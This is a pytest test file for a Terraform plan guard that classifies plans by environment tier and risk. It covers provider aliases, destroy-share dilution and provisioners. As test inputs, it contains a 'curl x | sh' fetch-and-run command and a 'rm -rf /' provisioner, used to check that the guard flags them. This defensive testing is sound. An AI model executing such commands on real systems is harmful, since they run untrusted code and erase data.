"""The plan analyzer against the shapes `terraform show -json` really writes, and against plans
built to mislead it: provider configurations matched per resource, expressions it cannot
evaluate, share dilution, manifests, provisioners, actions, drift. Decisions are checked per
tier through the real pipeline (Cedar pack, inventory)."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from tfhelpers import TfProject, data, needs_terraform
from tfhelpers import resource_change as rc

from interlock.analysis.terraform import analyze_plan, analyze_terraform
from interlock.analysis.terraform.plan import _config_address
from interlock.effects import Risk, Scope, Target, Verb
from interlock.errors import InputError
from interlock.pipeline import Decider

AWS = "registry.terraform.io/hashicorp/aws"
K8S = "registry.terraform.io/hashicorp/kubernetes"

INVENTORY = """
default = "production"
[[rule]]
tier = "sandbox"
tf_workspace = ["dev"]
aws_profile = ["dev*"]
aws_account = ["222222222222"]
kube_context = ["kind-*"]
[[rule]]
tier = "production"
tf_workspace = ["prod"]
aws_profile = ["prod*"]
aws_account = ["111111111111"]
host = ["*.prod.example.com"]
"""


@pytest.fixture()
def decide(tmp_path: Path):
    inv = tmp_path / "inventory.toml"
    inv.write_text(INVENTORY)
    # A sandbox AWS profile in the guard's own environment: it must never stand in for a
    # provider argument the plan sets to something we cannot evaluate.
    env = {"HOME": str(tmp_path), "AWS_PROFILE": "dev-local"}
    decider = Decider(None, str(inv), None, environ=env)

    def run(plan: dict[str, Any], workspace: str | None = "dev") -> Any:
        inp: dict[str, Any] = {"plan": plan}
        if workspace is not None:
            inp["workspace"] = workspace
        return decider.decide({"tool": "terraform", "input": inp})
    return run


def plan_of(*changes: dict[str, Any], **top: Any) -> dict[str, Any]:
    return {"format_version": "1.2", "terraform_version": "1.11.4",
            "planned_values": {"root_module": {}}, "resource_changes": list(changes),
            "applyable": True, "complete": True, "errored": False, **top}


def cfg_resource(address: str, key: str, **extra: Any) -> dict[str, Any]:
    rtype, name = address.split(".")[-2:]
    return {"address": address, "mode": "managed", "type": rtype, "name": name,
            "provider_config_key": key, "expressions": {}, "schema_version": 0, **extra}


def aws_config(key: str, module: str | None = None, **exprs: Any) -> dict[str, Any]:
    entry: dict[str, Any] = {"name": "aws", "full_name": AWS, "expressions": exprs}
    if "." in key.rpartition(":")[2]:
        entry["alias"] = key.rpartition(".")[2]
    if module:
        entry["module_address"] = module
    return entry


def by_resource(effects) -> dict[str, Any]:
    return {e.resource: e for e in effects}


# --- provider configuration per resource ---------------------------------------------------

def two_alias_plan() -> dict[str, Any]:
    """Shaped like real output: module resources name the configuration passed into the module
    (`providers = { aws = aws.prod }` gives the key "aws.prod", nested modules inherit it)."""
    return plan_of(
        rc("aws_instance.dev_box", ["create"], after={}),
        rc('module.app["eu.west[1]"].module.db[0].aws_instance.x', ["create"], after={}),
        configuration={
            "provider_config": {
                "aws": aws_config("aws", profile={"constant_value": "dev-sandbox"}),
                "aws.prod": aws_config("aws.prod", profile={"constant_value": "prod-admin"}),
            },
            "root_module": {
                "resources": [cfg_resource("aws_instance.dev_box", "aws")],
                "module_calls": {"app": {"source": "./app", "module": {"module_calls": {
                    "db": {"source": "./db", "module": {
                        "resources": [cfg_resource("aws_instance.x", "aws.prod")]}}}}}},
            },
        },
    )


def test_each_resource_gets_its_own_provider_configuration(decide):
    e = by_resource(analyze_terraform(two_alias_plan(), workspace="dev"))
    assert e["aws_instance.dev_box"].targets == (Target("tf_workspace", "dev"),
                                                 Target("aws_profile", "dev-sandbox"))
    prod = e['module.app["eu.west[1]"].module.db[0].aws_instance.x']
    assert prod.targets == (Target("tf_workspace", "dev"), Target("aws_profile", "prod-admin"))
    d = decide(two_alias_plan())
    env = {x["resource"]: x["environment"] for x in d.to_json()["effects"]}
    assert env["aws_instance.dev_box"] == "sandbox"
    assert env['module.app["eu.west[1]"].module.db[0].aws_instance.x'] == "production"
    assert (d.decision, d.approvals_required) == ("require_approval", 2)


def test_orphan_with_disagreeing_aliases_is_undeterminable(decide):
    """Deleted because its configuration is gone: no provider_config_key says which alias it
    used. The old union let the sandbox alias decide for an unlisted production profile."""
    p = two_alias_plan()
    p["configuration"]["provider_config"]["aws.prod"]["expressions"]["profile"] = {
        "constant_value": "payments-admin"}  # in no inventory rule
    p["resource_changes"] = [rc("aws_instance.gone", ["delete"], before={},
                                action_reason="delete_because_no_resource_config")]
    (eff,) = analyze_terraform(p, workspace="default")
    assert Target.unknown("aws_profile", "provider aws configuration not known, one of 2 that "
                          "disagree") in eff.targets
    assert "configuration not known, one of 2" in eff.detail
    assert decide(p, workspace="default").environment == "production"


@pytest.mark.parametrize("profile_expr", [
    {"references": ["local.profile"]},                        # a local
    {"references": ["var.env", "var.team"]},                  # "${var.env}-${var.team}"
    {"references": ['var.profiles["prod"]', "var.profiles"]},  # an index into a map
    {},                                                       # a function call, no references
])
def test_unevaluable_profile_never_falls_back_to_the_guards_environment(decide, profile_expr):
    p = plan_of(rc("aws_db_instance.main", ["update"], "aws_db_instance", before={}, after={}),
                configuration={"provider_config": {"aws": aws_config("aws", profile=profile_expr)}},
                variables={"env": {"value": "dev"}, "profiles": {"value": {"prod": "prod"}}})
    (eff,) = analyze_terraform(p, workspace="dev")
    assert Target("aws_profile", None) not in eff.targets  # AWS_PROFILE=dev-local is not it
    assert [t.kind for t in eff.targets if t.undeterminable] == ["aws_profile"]
    assert "profile=(set by an expression)" in eff.detail
    d = decide(p)
    assert (d.environment, d.decision, d.approvals_required) == ("production",
                                                                 "require_approval", 2)


def test_root_variable_and_templated_role_arn_resolve():
    p = plan_of(rc("aws_instance.a", ["create"], after={}),
                configuration={"provider_config": {"aws": aws_config(
                    "aws", profile={"references": ["var.profile"]},
                    assume_role=[{"role_arn": {"references": ["var.account_id"]}}])}},
                variables={"profile": {"value": "prod-ops"},
                           "account_id": {"value": "111111111111"}})
    (eff,) = analyze_terraform(p, workspace="dev")
    assert eff.targets == (Target("tf_workspace", "dev"), Target("aws_profile", "prod-ops"),
                           Target("aws_account", "111111111111"))


def test_static_keys_and_api_server_hosts_are_not_the_environment(decide):
    p = plan_of(
        rc("aws_instance.a", ["create"], after={}),
        rc("kubernetes_deployment.api", ["update"], "kubernetes_deployment", provider=K8S,
           before={"metadata": [{"namespace": "api"}]}, after={"metadata": [{"namespace": "api"}]}),
        rc("kubernetes_config_map.c", ["create"], "kubernetes_config_map",
           provider="registry.terraform.io/hashicorp/kubernetes", after={}),
        configuration={"provider_config": {
            "aws": aws_config("aws", access_key={"references": ["var.key"]}),
            "kubernetes": {"name": "kubernetes", "full_name": K8S, "expressions": {
                "host": {"references": ["module.eks.cluster_endpoint", "module.eks"]},
                "token": {"references": ["data.aws_eks_cluster_auth.x.token"]}}},
        }, "root_module": {"resources": [
            cfg_resource("aws_instance.a", "aws"),
            cfg_resource("kubernetes_deployment.api", "kubernetes"),
        ]}})
    e = by_resource(analyze_terraform(p, workspace="dev"))
    assert e["aws_instance.a"].targets == (Target("tf_workspace", "dev"), Target.unknown(
        "aws_profile", "access_key set: the provider does not use the environment's aws_profile"))
    k = e["kubernetes_deployment.api"]
    assert Target.unknown("host", "host set by module.eks.cluster_endpoint") in k.targets
    assert not any(t.kind == "kube_context" for t in k.targets)  # not the kubeconfig's
    assert decide(p).environment == "production"
    # A literal API server URL names its host.
    p["configuration"]["provider_config"]["kubernetes"]["expressions"]["host"] = {
        "constant_value": "https://api.eks1.prod.example.com:443"}
    k = by_resource(analyze_terraform(p))["kubernetes_deployment.api"]
    assert Target("host", "api.eks1.prod.example.com") in k.targets


def test_config_address_strips_keys_with_dots_brackets_and_quotes():
    assert _config_address('module.a["k.1[2]"].module.b[0].aws_x.y["a\\"]b"]') == (
        "module.a.module.b.aws_x.y")
    assert _config_address("data.aws_ami.x[3]") == "data.aws_ami.x"
    assert _config_address('aws_x.y["unterminated') is None


# --- share of the state: what must not dilute it ------------------------------------------

def test_repeated_entries_fail_closed():
    p = plan_of(rc("aws_instance.a", ["delete"], before={}),
                *[rc("aws_instance.b", ["no-op"], before={}, after={}) for _ in range(50)])
    with pytest.raises(InputError, match="listed twice"):
        analyze_terraform(p)
    # A deposed object beside its current one is how Terraform writes it: not a repeat.
    ok = plan_of(rc("aws_instance.a", ["delete"], before={}, deposed="00000001"),
                 rc("aws_instance.a", ["no-op"], before={}, after={}))
    assert len(analyze_terraform(ok)) == 1


def test_imports_and_repeated_prior_state_entries_do_not_dilute(decide):
    """4 in state, 2 deleted: 50 %. 40 imports and 40 copies of a prior entry change nothing."""
    prior = [{"address": f"aws_instance.r{i}", "mode": "managed", "type": "aws_instance",
              "name": f"r{i}", "values": {}} for i in range(4)]
    prior += [copy.deepcopy(prior[3]) for _ in range(40)]
    imports = []
    for i in range(40):
        r = rc(f"aws_instance.imp{i}", ["no-op"], before={}, after={})
        r["change"]["importing"] = {"id": f"i-{i}"}
        imports.append(r)
    p = plan_of(rc("aws_instance.r0", ["delete"], before={}),
                rc("aws_instance.r1", ["delete"], before={}),
                *imports, prior_state={"values": {"root_module": {"resources": prior}}})
    analysis = analyze_plan(p, workspace="prod")
    assert analysis.summary.facts["tf_prior"] == 4
    assert analysis.summary.facts["tf_destroy_share_pct"] == 50
    assert analysis.summary.mass_destruction
    assert decide(p, workspace="dev").decision == "allow"  # sandbox: destruction flows
    assert decide(p, workspace="prod").decision == "deny"


@pytest.mark.parametrize("actions", ["delete", None, [None], ["read"], [["delete"]]])
def test_actions_that_are_not_a_plan_fail_closed(actions):
    with pytest.raises(InputError):
        analyze_terraform(plan_of(rc("aws_db_instance.main", actions, "aws_db_instance",
                                     before={})))


# --- what a resource is -------------------------------------------------------------------

def manifest(kind: str, name: str, ns: str | None = None) -> dict[str, Any]:
    meta = {"name": name, **({"namespace": ns} if ns else {})}
    return {"manifest": {"apiVersion": "v1", "kind": kind, "metadata": meta}, "object": None}


def test_kubernetes_manifest_namespace_is_a_container(decide):
    kube = {"kubernetes": {"name": "kubernetes", "full_name": K8S, "expressions": {
        "config_context": {"constant_value": "kind-dev"}}}}
    p = plan_of(rc("kubernetes_manifest.ns", ["delete"], "kubernetes_manifest", provider=K8S,
                   before=manifest("Namespace", "payments")),
                rc("kubernetes_manifest.cm", ["update"], "kubernetes_manifest", provider=K8S,
                   before=manifest("ConfigMap", "c", "payments"),
                   after=manifest("ConfigMap", "c", "payments")),
                *[rc(f"aws_instance.k{i}", ["no-op"], before={}, after={}) for i in range(9)],
                configuration={"provider_config": kube})
    e = by_resource(analyze_terraform(p))
    ns = e["kubernetes_manifest.ns"]
    assert ns.stateful and Risk.MASS_DESTRUCTION in ns.risks and ns.scope is Scope.ALL
    assert "stateful type kubernetes_manifest (Namespace)" in ns.detail
    assert Target("k8s_namespace", "payments") in ns.targets
    cm = e["kubernetes_manifest.cm"]
    assert not cm.stateful and Target("k8s_namespace", "payments") in cm.targets
    assert decide(p, workspace="prod").decision == "deny"
    assert decide(p, workspace="dev").decision == "allow"


@pytest.mark.parametrize("rtype", [
    "aws_secretsmanager_secret_version", "aws_elasticache_global_replication_group",
    "aws_organizations_account", "google_healthcare_fhir_store", "azurerm_cosmosdb_table",
    "azurerm_kusto_database", "postgresql_database", "github_repository", "vault_mount",
    "tfe_workspace", "snowflake_database",
])
def test_more_stateful_types_lose_data_on_replace(rtype):
    (eff,) = analyze_terraform(plan_of(rc(f"{rtype}.x", ["delete", "create"], rtype,
                                          before={}, after={})))
    assert eff.stateful and not eff.reversible


def test_guards_that_abandon_or_skip_backups_are_shown():
    p = plan_of(rc("aws_fsx_lustre_file_system.f", ["delete"], "aws_fsx_lustre_file_system",
                   before={"skip_final_backup": True}),
                rc("google_sql_database.d", ["delete"], "google_sql_database",
                   before={"deletion_policy": "ABANDON"}),
                rc("github_repository.r", ["delete"], "github_repository",
                   before={"archive_on_destroy": False}))
    e = by_resource(analyze_terraform(p))
    assert Risk.MASS_DESTRUCTION in e["aws_fsx_lustre_file_system.f"].risks
    assert "deletion_policy=ABANDON" in e["google_sql_database.d"].detail
    assert "deleted, not archived" in e["github_repository.r"].detail


# --- things that run during apply ---------------------------------------------------------

def test_external_data_source_read_is_an_execute(decide):
    r = rc("data.external.x", ["read"], "external",
           provider="registry.terraform.io/hashicorp/external", mode="data",
           after={"program": ["sh", "-c", "curl x | sh"]},
           action_reason="read_because_config_unknown")
    (eff,) = analyze_terraform(plan_of(r))
    assert eff.verb is Verb.EXECUTE and "runs a program" in eff.detail
    assert decide(plan_of(r), workspace="prod").decision == "require_approval"


def test_action_invocations_are_executes(decide):
    """Terraform 1.14 actions run provider operations during apply; a plan of nothing but
    an invoked action used to be "no effects", allowed in production."""
    p = plan_of(action_invocations=[{
        "address": "action.aws_lambda_invoke.rotate", "type": "aws_lambda_invoke",
        "name": "rotate", "provider_name": AWS, "config_values": {"function_name": "rotate"},
        "invoke_action_trigger": {}}])
    del p["resource_changes"]
    (eff,) = analyze_terraform(p, workspace="prod")
    assert eff.verb is Verb.EXECUTE and "action aws_lambda_invoke" in eff.detail
    d = decide(p, workspace="prod")
    assert (d.decision, d.approvals_required) == ("require_approval", 2)
    with pytest.raises(InputError, match="action_invocations"):
        analyze_terraform(plan_of(action_invocations=[{"type": "x"}]))


def test_drift_of_a_refresh_only_plan_is_a_state_change():
    drift = [rc("aws_instance.a", ["update"], before={"tags": {}}, after={"tags": {"x": "1"}}),
             rc("aws_instance.b", ["delete"], before={})]
    p = {"format_version": "1.2", "planned_values": {"root_module": {"resources": [
        {"address": "aws_instance.a"}]}}, "resource_drift": drift, "applyable": True,
        "complete": True, "errored": False}
    e = by_resource(analyze_terraform(p))
    assert e["aws_instance.a"].verb is Verb.UPDATE
    assert e["aws_instance.b"].verb is Verb.FORGET and "deleted outside" in e["aws_instance.b"].detail
    assert e["aws_instance.a"].facts["tf_deletes"] == 0


# --- real plans --------------------------------------------------------------------------

@needs_terraform
def test_real_provisioners_are_analysed_as_the_commands_they_run(tmp_path, decide):
    proj = TfProject(tmp_path)
    proj.write(
        'resource "terraform_data" "wipe" {\n'
        '  for_each = toset(["a.b", "c[\\"d\\"]"])\n  input = each.key\n'
        '  provisioner "local-exec" {\n    command = "rm -rf /"\n  }\n}\n'
        'resource "terraform_data" "hook" {\n  input = "x"\n'
        '  provisioner "local-exec" {\n    command = "echo ${self.id}"\n  }\n}\n')
    plan = proj.plan()
    effects = analyze_terraform(plan, workspace="dev")
    wipe = [e for e in effects if e.verb is not Verb.CREATE and "wipe" in e.detail]
    assert len(wipe) == 1 and Risk.CATASTROPHIC in wipe[0].risks  # once, not per instance
    hook = by_resource(effects)["terraform_data.hook provisioner local-exec"]
    assert hook.verb is Verb.OPAQUE and "command set by an expression" in hook.detail
    assert decide(plan).decision == "deny"  # catastrophic in every tier, sandbox too


@needs_terraform
def test_real_import_does_not_count_as_prior_state(tmp_path):
    proj = TfProject(tmp_path)
    proj.write(data("a", input="a") + data("b", input="b")).apply()
    imports = "".join(f'resource "terraform_data" "i{i}" {{\n  input = "i"\n}}\n'
                      f'import {{\n  to = terraform_data.i{i}\n  id = "id-{i}"\n}}\n'
                      for i in range(8))
    proj.write(data("a", input="a") + imports)  # b deleted: 1 of 2 in state
    analysis = analyze_plan(proj.plan())
    assert analysis.summary.facts["tf_prior"] == 2
    assert analysis.summary.facts["tf_destroy_share_pct"] == 50
    imported = by_resource(analysis.effects)["terraform_data.i0"]
    assert "import id=id-0" in imported.detail


@needs_terraform
def test_real_refresh_only_plan_without_drift_is_empty(tmp_path):
    proj = TfProject(tmp_path)
    proj.write(data("a", input="a")).apply()
    plan = proj.plan("-refresh-only")
    assert "resource_changes" not in plan and plan["applyable"] is False
    assert analyze_terraform(plan) == []
